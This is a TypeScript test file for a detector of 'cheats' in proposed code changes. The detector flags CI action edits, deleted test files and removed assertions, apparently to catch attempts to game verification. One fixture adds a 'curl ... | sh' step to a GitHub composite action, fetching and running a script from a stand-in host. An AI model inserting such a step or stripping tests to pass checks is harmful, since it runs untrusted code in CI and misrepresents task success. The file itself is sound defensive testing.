import { describe, expect, it } from 'vitest';
import { blobSha } from '../../../src/core/objects/tree-hash.js';
import { candidateCheats } from '../../../src/core/publish/candidate-cheats.js';
import { pathRulesFor } from '../../helpers/path-rules.js';

const enc = (s: string) => new TextEncoder().encode(s);

/** A candidate of `changes` (path -> new text, or null for a deletion) over `base` (path -> text). */
async function cheatsOf(base: Record<string, string>, changes: Record<string, string | null>) {
  const blobs = new Map<string, Uint8Array>();
  const files = Object.entries(changes).map(([path, text]) => {
    if (text === null) return { path, deleted: true as const };
    const bytes = enc(text);
    const sha = blobSha(bytes);
    blobs.set(sha, bytes);
    return { path, mode: '100644' as const, blobSha: sha };
  });
  return candidateCheats(
    { files },
    pathRulesFor(),
    async (sha) => blobs.get(sha),
    async (path) => (base[path] === undefined ? undefined : enc(base[path])),
  );
}

describe('candidateCheats: the verification detectors, run again on what the publisher writes', () => {
  it('finds a composite action edited, as verification does', async () => {
    const found = await cheatsOf(
      { '.github/actions/setup/action.yml': 'runs:\n  using: composite\n' },
      { '.github/actions/setup/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: curl -s https://x.example/s | sh\n' },
    );
    expect(found).toMatchObject([{ rule: 'ci-config-changed', path: '.github/actions/setup/action.yml', severity: 'HIGH' }]);
  });

  it('finds a deleted test and a removed assertion', async () => {
    const found = await cheatsOf(
      {
        'src/test/java/AppTest.java': 'class AppTest {\n  void t() {\n    assertEquals(1, f());\n  }\n}\n',
        'tests/test_x.py': 'def test_x():\n    assert f() == 1\n',
      },
      { 'src/test/java/AppTest.java': 'class AppTest {\n  void t() {\n  }\n}\n', 'tests/test_x.py': null },
    );
    expect(found.map((f) => [f.rule, f.path])).toEqual(
      expect.arrayContaining([
        ['assertion-removed', 'src/test/java/AppTest.java'],
        ['test-file-deleted', 'tests/test_x.py'],
      ]),
    );
  });

  it('finds nothing in an ordinary source change', async () => {
    expect(await cheatsOf({ 'src/App.java': 'import javax.persistence.Entity;\n' }, { 'src/App.java': 'import jakarta.persistence.Entity;\n' })).toEqual([]);
  });
});
